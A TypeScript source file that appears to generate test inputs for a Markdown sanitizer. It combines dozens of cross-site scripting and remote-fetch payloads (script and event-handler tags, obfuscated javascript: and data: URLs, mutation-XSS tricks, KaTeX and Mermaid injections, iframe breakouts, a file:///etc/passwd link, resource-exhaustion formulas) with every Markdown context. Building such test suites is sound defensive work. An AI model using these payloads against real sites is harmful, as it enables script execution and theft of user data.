/**
 * What has been tried against pages that show what others write: what runs script or fetches something, each in
 * every place that Markdown has for it. `hit()` is what runs, `https://fetched.invalid` what is fetched.
 */
export function attacks(): string[] {
  const found = new Set<string>();
  for (const markup of MARKUP) for (const place of PLACES) found.add(place(markup));
  for (const address of ADDRESSES) for (const place of LINKS) found.add(place(address));
  for (const formula of FORMULAS)
    for (const place of [
      (tex: string) => `$${tex}$`,
      (tex: string) => `$$\n${tex}\n$$`,
      (tex: string) => `\\(${tex}\\)`,
    ])
      found.add(place(formula));
  for (const diagram of DIAGRAMS) found.add('```mermaid\n' + diagram + '\n```\n');
  for (const page of PAGES)
    for (const language of ['html', 'svg']) found.add('```' + language + '\n' + page + '\n```\n');
  return [...found];
}

const FETCHED = 'https://fetched.invalid';

const MARKUP = [
  '<script>hit()</script>',
  '<script src="https://fetched.invalid/a.js"></script>',
  '<ScRiPt>hit()</sCrIpT>',
  '<<script>hit()//<</script>',
  '<script\n>hit()</script\n>',
  '<scr<script>ipt>hit()</script>',
  '<img src=x onerror=hit()>',
  '<img src="x" onerror="hit()"',
  '<img/src=x/onerror=hit()>',
  '<img src=https://fetched.invalid/a.png>',
  '<img srcset="https://fetched.invalid/a.png 1x">',
  '<img src=`x`onerror=hit()>',
  '<image href="https://fetched.invalid/a.png"/>',
  '<picture><source srcset="https://fetched.invalid/b.png"><img></picture>',
  '<svg onload=hit()>',
  '<svg/onload=hit()//',
  '<svg><script>hit()</script></svg>',
  '<svg><script href="https://fetched.invalid/a.js"/></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hit()"><text y=20>a</text></a></svg>',
  '<svg><use href="https://fetched.invalid/a.svg#a"/></svg>',
  '<svg><foreignObject><iframe src="javascript:parent.hit()"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=hit()></style></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<math><maction actiontype="statusline" xlink:href="javascript:hit()">a</maction></math>',
  '<math href="javascript:hit()">a</math>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="https://fetched.invalid"></iframe>',
  '<object data="https://fetched.invalid/a"></object>',
  '<object data="javascript:hit()"></object>',
  '<embed src="https://fetched.invalid/a">',
  '<link rel=stylesheet href="https://fetched.invalid/a.css">',
  '<link rel=prefetch href="https://fetched.invalid/b">',
  '<style>@import "https://fetched.invalid/a.css";</style>',
  '<style>body{background:url(https://fetched.invalid/c)}</style>',
  '<div style="background:url(https://fetched.invalid/d)">a</div>',
  '<meta http-equiv="refresh" content="0;url=https://fetched.invalid">',
  '<base href="https://fetched.invalid/">',
  '<body onload=hit()>',
  '<body background="https://fetched.invalid/e">',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>a</details>',
  '<video src="https://fetched.invalid/a" onerror=hit()></video>',
  '<video poster="https://fetched.invalid/f"></video>',
  '<audio src="https://fetched.invalid/a" onerror="hit()"></audio>',
  '<marquee onstart=hit()>a</marquee>',
  '<form action="javascript:hit()"><button autofocus>a</button></form>',
  '<button onclick=hit()>a</button>',
  '<a href="javascript:hit()">a</a>',
  '<a href="https://a.example" onmouseover="hit()">a</a>',
  '<template><script>hit()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=hit()>"></textarea>',
  '<!--><img src=x onerror=hit()>-->',
  '<![CDATA[<script>hit()</script>]]>',
  '<?xml-stylesheet href="javascript:hit()"?>',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;img src=x onerror=hit()&#62;',
  '<table background="https://fetched.invalid/g"><td>a</table>',
  '<x onclick=hit() tabindex=1 autofocus onfocus=hit()>a</x>',
];

const PLACES: readonly ((markup: string) => string)[] = [
  (markup) => `${markup}\n`,
  (markup) => `words ${markup} and **${markup}**\n`,
  (markup) => `> - ${markup}\n`,
  (markup) => `# ${markup}\n`,
  (markup) => `| a |\n|---|\n| ${markup.replaceAll('\n', ' ')} |\n`,
  (markup) => `[${markup}](https://a.example)\n`,
  (markup) => '`' + markup + '`\n',
  (markup) => '```' + markup.replaceAll(/[`\n]/g, '') + '\n' + markup + '\n```\n',
  (markup) =>
    `a[^${markup.replaceAll(/[\s\]]/g, '')}]\n\n[^${markup.replaceAll(/[\s\]]/g, '')}]: ${markup}\n`,
];

const ADDRESSES = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  ' javascript:hit()',
  'java\tscript:hit()',
  'java\nscript:hit()',
  'javascript&colon;hit()',
  'javascript&#58;hit()',
  '&#106;avascript:hit()',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;hit()',
  '\u0001javascript:hit()',
  'javascript://a.example/%0Ahit()',
  'vbscript:hit()',
  'data:text/html,<script>hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>',
  'blob:https://a.example/b',
  'file:///etc/passwd',
  'about:blank',
  'view-source:https://a.example',
  '//fetched.invalid/a',
  `${FETCHED}/a.png" onerror="hit()`,
  `${FETCHED}/a.png' onload='hit()`,
];

const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[a](${address})\n`,
  (address) => `[a](<${address}> "title\\" onclick=hit()")\n`,
  (address) => `![a](${address})\n`,
  (address) => `[![a](${address})](${address})\n`,
  (address) => `<${address}>\n`,
  (address) => `[a][b]\n\n[b]: <${address}>\n`,
  (address) => `![a][c]\n\n[c]: ${address} 'title'\n`,
];

const FORMULAS = [
  '\\href{javascript:hit()}{a}',
  '\\url{javascript:hit()}',
  '\\includegraphics{https://fetched.invalid/a.png}',
  '\\htmlData{a=b}{c}',
  '\\htmlStyle{background:url(https://fetched.invalid/h)}{a}',
  '\\htmlClass{" onclick="hit()}{a}',
  '\\htmlId{a" onclick="hit()}{a}',
  '\\text{<img src=x onerror=hit()>}',
  '<img src=x onerror=hit()>',
  '\\unicode{<script>hit()</script>}',
  '\\def\\a{\\a\\a}\\a',
  '\\rule{999999em}{999999em}',
];

const DIAGRAMS = [
  'graph TD; A["<img src=x onerror=hit()>"] --> B',
  'graph TD; A --> B; click A "javascript:hit()"',
  'graph TD; A --> B; click A call hit()',
  'graph TD; A["<script>hit()</script>"]',
  'graph TD; A[a]; style A fill:url(https://fetched.invalid/i)',
  '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD; A["<iframe src=javascript:parent.hit()>"]',
  '%%{init: {"themeCSS": "@import url(https://fetched.invalid/j.css);"}}%%\ngraph TD; A',
  'sequenceDiagram\nA->>B: <img src=x onerror=hit()>\nlink A: a @ javascript:hit()',
  'graph TD; A@{ img: "https://fetched.invalid/k.png", label: "a" }',
];

const PAGES = [
  '<script>parent.hit()</script>',
  '<img src="https://fetched.invalid/l.png" onerror="parent.hit()">',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hit()"><image href="https://fetched.invalid/m.png"/></svg>',
  '<meta http-equiv="refresh" content="0;url=https://fetched.invalid/n">',
  '<style>@import "https://fetched.invalid/o.css"; body { background: url(https://fetched.invalid/p) }</style>',
  '<iframe src="https://fetched.invalid/q"></iframe><object data="https://fetched.invalid/r"></object>',
  '<base href="https://fetched.invalid/"><img src="s.png"><link rel=stylesheet href=t.css>',
  '"></iframe><script>hit()</script>',
];
